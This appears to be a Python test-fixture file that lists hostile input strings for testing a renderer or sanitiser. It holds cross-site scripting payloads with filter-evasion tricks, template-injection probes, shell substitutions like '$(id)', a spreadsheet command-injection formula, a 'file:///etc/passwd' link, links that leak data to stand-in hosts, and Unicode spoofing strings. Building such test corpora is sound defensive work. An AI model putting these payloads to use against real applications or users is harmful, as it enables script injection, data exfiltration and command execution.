"""Texts that try to become something else than text: script, markup, requests, templates, other directions."""

_RUN = "pwned=1"
_ELEMENTS = (
    "<script>{run}</script>", "<script src='HOSTa.js'></script>", "<ScRiPt>{run}</sCrIpT>", "<script\x00>{run}</script>",
    "<img src=x onerror={run}>", "<img src='HOSTi.png'>", "<IMG SRC=HOSTj.png ONLOAD={run}>", "<img srcset='HOSTs 1x'>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><image href='HOSTv.svg'/></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>", "<math><mtext><script>{run}</script></mtext></math>",
    "<iframe src='HOSTf'></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>", "<object data='HOSTo'></object>", "<embed src='HOSTe'>",
    "<video src='HOSTv' autoplay onerror={run}></video>", "<audio src='HOSTa' onerror={run}></audio>",
    "<video poster='HOSTp.png'></video>", "<body onload={run}>", "<body background='HOSTb.png'>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}></select>", "<textarea>",
    "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>", "<form action='HOST'><button>",
    "<form id=text><input name=value></form>", "<a href='javascript:{run}'>click</a>", "<a href='HOST' ping='HOSTping'>x</a>",
    "<base href='HOST'>", "<link rel=stylesheet href='HOSTs.css'>", "<link rel=prefetch href='HOSTp'>",
    "<link rel=dns-prefetch href='//leak.example'>", "<link rel=preconnect href='HOST'>",
    "<meta http-equiv=refresh content='0;url=HOSTm'>", "<style>@import 'HOSTs.css'</style>",
    "<style>body{{background:url(HOSTb.png)}}</style>", "<div style='background:url(HOSTd.png)'>x</div>",
    "<x onclick={run} style='position:fixed;inset:0'>x</x>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<plaintext>", "<xmp><script>{run}</script></xmp>",
    "<portal src='HOST'></portal>", "<frameset onload={run}>", "<table background='HOSTt.png'><td>x",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"HOSTx\"]}}]}}</script>",
    "<track src='HOSTt' kind=captions default>", "<picture><source srcset='HOSTp.png'><img></picture>",
)  # fmt: skip
_BREAKS = (
    "\"><script>{run}</script>", "'><img src=x onerror={run}>", "</textarea><script>{run}</script>", "--><script>{run}</script>",
    "</script><script>{run}</script>", "</template><img src=x onerror={run}>", "]]><script>{run}</script>",
    "</style><script>{run}</script>", "</title><script>{run}</script>", "\" autofocus onfocus=\"{run}", "' onmouseover='{run}",
    "`${{{run}}}`", "\\\"-{run}//", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;", "%3Cscript%3E{run}%3C/script%3E", "\u003cscript>{run}</script>",
    "＜script＞{run}＜/script＞", "<<script>{run}//<</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img/src=x/onerror={run}>", "<img src=x onerror\t=\n{run}>", "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<a href=\"data:text/html,<script>{run}</script>\">x</a>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{config.items()}}", "{% for x in range(9) %}x{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{7*7!r}",
    "{0.__class__}", "%(x)s %s %d", "$(id)", "`id`", "{{''.__class__.__mro__[1].__subclasses__()}}", "__import__('js')",
)  # fmt: skip
_LINKS = (
    "HOSTplain", "see HOSTplain?token=secret", "![picture](HOSTmd.png)", "[click](javascript:pwned=1)", "<HOSTauto>",
    "[ref]: HOSTref 'x'\n![x][ref]", "javascript:pwned=1", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload='pwned=1'/>", "//evil.example/x", "https://evil.example/?q=1", "file:///etc/passwd",
    "blob:http://127.0.0.1/x", "vbscript:pwned", "=HYPERLINK(\"HOSTx\")", "=cmd|'/c calc'!A1",
)  # fmt: skip
_ODD = (
    "\u202egnp.exe\u202c keep this between us", "\u2066\u2067nested\u2069\u2069", "\u200b\u200c\u200d\ufeffhidden", "a\u0300" * 400,
    "nul\x00in\x00the\x00middle", "\x1b[31mred\x1b[0m\x07", "x" * 20_000, "word " * 5_000, "\ud7ff\ue000\ufdd0\ufffe",
    "\U000e0041\U000e0042tags", "line\u2028separator\u2029paragraph", "\u202e" * 200 + "<img src=x onerror=pwned=1>",
)  # fmt: skip
BODIES = (
    *(each.format(run=_RUN) for each in (*_ELEMENTS, *_BREAKS)), *_TEMPLATES, *_LINKS, *_ODD,
)  # fmt: skip
"""`HOST` stands for the address of a host that hears what is asked of it."""
